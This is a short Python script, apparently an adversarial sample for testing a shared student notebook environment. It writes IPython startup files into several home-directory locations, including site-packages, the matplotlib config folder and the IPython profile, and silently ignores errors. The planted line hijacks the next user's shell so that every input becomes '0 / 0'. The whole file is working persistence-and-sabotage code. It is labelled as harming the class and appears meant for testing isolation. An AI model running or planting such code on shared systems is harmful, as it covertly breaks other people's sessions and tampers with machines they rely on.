"""Writes a start-up file that would run in the next student's shell."""
# harms: class

from pathlib import Path

line = "get_ipython().input_transformers_cleanup.append(lambda lines: ['0 / 0'])\n"
for home in (Path.home(), Path("@HOME@")):
    for place in (
        ".ipython/profile_default/startup",
        ".config/matplotlib",
        ".local/lib/python3.11/site-packages",
        "",
    ):
        try:
            folder = home / place
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "adversary-was-here").write_text(line)
            (folder / "00-first.py").write_text(line)
        except OSError:
            pass
